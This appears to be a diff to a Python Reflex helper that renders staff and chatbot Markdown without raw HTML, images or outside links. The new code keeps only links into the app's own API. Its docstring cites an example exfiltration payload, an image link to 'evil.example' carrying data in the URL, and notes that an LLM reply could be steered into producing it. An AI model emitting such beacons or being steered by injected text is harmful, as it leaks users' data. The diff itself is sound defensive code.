@@ -5,17 +5,36 @@ an image would be a tracking beacon on a staff member's screen, a link a phishin
 link, ``###`` a heading that imitates the assistant. Staff and bot text is Markdown
 (``safe_markdown``) without raw HTML, without math and without images: a reply
 phrased by the optional LLM could otherwise be steered into loading
-``![](https://evil.example/?data=…)``.
+``![](https://evil.example/?data=…)``. A link is a link only into our own REST API (a statement's
+signed download, ``/api/statements/…``); any other shows as its words, so no reply can send anyone
+to another site.
 """
 
 import reflex as rx
 
 BLOCKED_IMAGE = "[image not shown]"
+OWN_LINKS = "/api/"
+"""The only links that stay links: paths of our own REST API, on this origin (a signed statement download)."""
+_HREF = rx.Var(_js_expr='(props.href ?? "")', _var_type=str)
+"""The link's target, as react-markdown hands it to the component map's function."""
 
 
 def _no_image(*_children: object, **_props: object) -> rx.Component:
     # react-markdown spreads the node's props (src, alt) onto this span: a span loads nothing.
     return rx.el.span(BLOCKED_IMAGE, class_name="md-image-blocked")
+
+
+def _own_link(*children: object, **_props: object) -> rx.Component:
+    # The browser follows it (reload_document: no routing inside the page): the download needs a real request.
+    href = _HREF.to(str)
+    return rx.el.span(
+        rx.cond(
+            href.startswith(OWN_LINKS),
+            rx.el.a(*children, href=href, reload_document=True, class_name="md-link"),
+            rx.el.span(*children),
+        ),
+        class_name="md-link-box",
+    )
 
 
 def _scrolling_table(*children: object, **_props: object) -> rx.Component:
@@ -25,13 +44,14 @@ def _scrolling_table(*children: object, **_props: object) -> rx.Component:
 
 
 def safe_markdown(content: rx.Var | str, **props: object) -> rx.Component:
-    """Tables, lists and emphasis render; ``<script>``, ``<img onerror>`` and ``![](…)`` show as text."""
+    """Tables, lists, emphasis and links into our own API render; ``<script>``, ``<img onerror>``, ``![](…)`` and
+    links elsewhere show as text."""
     return rx.markdown(
         content,
         use_raw=False,
         use_math=False,
         use_katex=False,
-        component_map={"img": _no_image, "table": _scrolling_table},
+        component_map={"img": _no_image, "table": _scrolling_table, "a": _own_link},
         **props,
     )
 
